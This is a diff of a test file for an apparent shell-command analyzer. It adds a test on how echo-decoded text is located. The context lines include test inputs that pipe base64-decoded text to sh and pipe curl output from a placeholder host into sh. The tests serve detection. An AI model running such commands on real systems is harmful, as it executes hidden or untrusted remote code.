@@ -32,6 +32,17 @@ test('a decoded text is kept to be shown as far as it can be, and its carrier is
   assert.equal(read('echo cm0geA== | base64 -d | sh; rm y').effects.at(-1)?.decoded, undefined);
 });
 
+test('a text that echo has decoded has no letters to point at: the echo as a whole is its carrier', () => {
+  for (const [text, carrier] of [
+    ["echo $'\\x41' | psql", [0, 12]],
+    ["echo ~/h $'\\x41' | psql", [0, 16]],
+    ["echo -n $'\\x41' | psql", [0, 15]],
+  ] as const) {
+    const [embedded] = read(text).embedded;
+    assert.deepEqual([embedded?.range, embedded?.verbatim, embedded?.offsets], [carrier, false, undefined], text);
+  }
+});
+
 test('code from the network that is run is exec.download, by whatever way it comes', () => {
   for (const text of [
     'curl -s https://x.example/i | sh',
